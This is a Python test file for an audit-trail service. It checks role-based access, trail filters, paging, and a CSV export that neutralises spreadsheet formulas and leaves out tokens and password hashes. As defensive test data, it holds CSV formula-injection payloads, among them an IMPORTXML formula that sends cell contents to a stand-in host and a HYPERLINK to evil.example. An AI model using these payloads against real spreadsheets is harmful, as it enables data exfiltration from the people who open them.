"""Reading and exporting the audit trail through its service, in-process on a real SQLite
store: only the roles in `[web] audit_roles` may; the filters narrow it; the CSV is safe to open
in a spreadsheet and carries no secret."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from datetime import UTC, date, datetime, timedelta

import pytest
from conftest import Clock, ProjectDir
from workflow_helpers import APPROVER, CHAIR, WRITER, Rig, set_people

from pipeline.errors import Invalid, NotAllowed
from pipeline.ledger import Actor
from pipeline.services import approvals, audit, freeze, items
from pipeline.services.approvals import Selection
from pipeline.services.audit import AuditFilter
from renderers.csvfile import FORMULA_START, cell

NOW = datetime(2027, 1, 10, 9, 0, tzinfo=UTC)
POST = "safer-internet-day/on-the-day/2027-02-09"


@pytest.fixture
def rig(project: ProjectDir) -> Iterator[Rig]:
    set_people(project)   # [web] audit_roles by default: business-unit, executive (the chair)...
    made = Rig(project, Clock(NOW))
    yield made
    made.ws.close()


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_only_the_audit_roles_may_read_or_export_the_trail(rig: Rig) -> None:
    for person in (APPROVER, WRITER):
        with pytest.raises(NotAllowed, match=r"may read the audit trail .*it is for: chair"):
            audit.trail(rig.ws, person, AuditFilter())
        with pytest.raises(NotAllowed):
            audit.export_csv(rig.ws, person, AuditFilter())
    assert audit.may_read(rig.ws, "chair") and not audit.may_read(rig.ws, "approver")
    assert audit.trail(rig.ws, CHAIR, AuditFilter()).events == []


def test_the_audit_roles_come_from_the_settings(project: ProjectDir) -> None:
    set_people(project, '[web]\naudit_roles = ["approvers"]\n\n')
    rig = Rig(project, Clock(NOW))
    try:
        assert audit.may_read(rig.ws, "approver") and not audit.may_read(rig.ws, "chair")
        with pytest.raises(NotAllowed, match="it is for: approver"):
            audit.trail(rig.ws, CHAIR, AuditFilter())
    finally:
        rig.ws.close()


def test_the_filters_narrow_the_trail_newest_first(rig: Rig) -> None:
    ws = rig.ws
    approvals.approve(ws, APPROVER, NOW, Selection((POST + "/x",)))
    items.comment(ws, Actor("approver", via="web", address="192.0.2.7"),
                  NOW + timedelta(hours=1), POST, "Reads well.")
    freeze.pause(ws, CHAIR, NOW + timedelta(days=2), "An incident")
    everything = audit.trail(ws, CHAIR, AuditFilter())
    assert [e.kind for e in everything.events] == ["pause", "comment", "approve"]
    assert everything.kinds == ["approve", "comment", "pause"]
    assert everything.people == ["approver", "chair"]

    def kinds(**wanted) -> list[str]:
        return [e.kind for e in audit.trail(ws, CHAIR, AuditFilter(**wanted)).events]

    assert kinds(person="approver") == ["comment", "approve"]
    assert kinds(kind="pause") == ["pause"]
    assert kinds(via="web") == ["comment"]
    assert kinds(item="safer-internet-day/on-the-day") == ["comment", "approve"]
    assert kinds(item="safer-internet-day/two-days-to-go") == []
    assert kinds(item="%") == []   # the text of an id, never a pattern
    # local dates, inclusive: the pause was on the 12th
    assert kinds(first=date(2027, 1, 11)) == ["pause"]
    assert kinds(last=date(2027, 1, 11)) == ["comment", "approve"]
    assert kinds(first=date(2027, 1, 10), last=date(2027, 1, 10)) == ["comment", "approve"]
    with pytest.raises(Invalid, match="before the first"):
        kinds(first=date(2027, 1, 12), last=date(2027, 1, 11))
    with pytest.raises(Invalid, match="'phone' is not one of: web, cli, daemon"):
        kinds(via="phone")
    described = [audit.describe(e) for e in everything.events]
    assert described == ["paused publishing: An incident", "commented: “Reads well.”",
                         f"approved version {ws.catalog.item(POST + '/x').version}"]


def test_a_page_shows_the_newest_and_says_there_are_more(rig: Rig) -> None:
    for n in range(5):
        items.comment(rig.ws, APPROVER, NOW + timedelta(minutes=n), POST, f"Comment {n}")
    page = audit.trail(rig.ws, CHAIR, AuditFilter(), shown=3)
    assert [e.details["text"] for e in page.events] == ["Comment 4", "Comment 3", "Comment 2"]
    assert page.more
    assert not audit.trail(rig.ws, CHAIR, AuditFilter(), shown=5).more
    text, count = audit.export_csv(rig.ws, CHAIR, AuditFilter())
    assert count == 5 and len(rows(text)) == 5   # the export has every event that matches


def test_the_export_opens_safely_in_a_spreadsheet_and_holds_no_secret(rig: Rig) -> None:
    ws = rig.ws
    # what a person or a forged forwarding header can put in a cell verbatim
    for n, address in enumerate(('=HYPERLINK("http://evil.example","click")', "+1+1", "-2+3",
                                 "@SUM(A1:A9)", "\t=1", "\r=1")):
        ws.ledger.audit.add(NOW + timedelta(seconds=n), "sign-in", Actor("approver", via="web",
                                                                          address=address))
    items.comment(ws, APPROVER, NOW, POST, "=IMPORTXML(CONCAT(\"http://x/\",A1),\"//a\")")
    ws.ledger.audit.add(NOW, "invite", Actor("root", os_user="root"),
                        details={"person": "writer", "token": "s3cret-token",
                                 "password_hash": "$argon2id$v=19$abc", "emailed": False})
    text, count = audit.export_csv(ws, CHAIR, AuditFilter())
    assert count == 8
    table = list(csv.reader(io.StringIO(text, newline="")))
    assert table[0] == list(audit.CSV_COLUMNS)
    cells = [c for row in table for c in row]
    assert not [c for c in cells if c.startswith(FORMULA_START)]
    origins = [r["from"] for r in rows(text) if r["what"] == "sign-in"]
    assert "'=HYPERLINK(\"http://evil.example\",\"click\")" in origins
    assert {"'+1+1", "'-2+3", "'@SUM(A1:A9)", "'\t=1", "'\r=1"} <= set(origins)
    assert "s3cret-token" not in text and "argon2" not in text
    (invite,) = [r for r in rows(text) if r["what"] == "invite"]
    assert invite["details"] == "emailed: False; person: writer"
    assert invite["via"] == "at the command line" and invite["from"] == "root"


def test_a_csv_cell_is_neutralised_only_where_a_spreadsheet_would_run_it() -> None:
    for start in FORMULA_START:
        assert cell(start + "1") == "'" + start + "1"
    assert cell("Safer Internet Day") == "Safer Internet Day"
    assert cell(-3) == -3 and cell(0.5) == 0.5   # numbers stay numbers
    assert cell(None) == ""
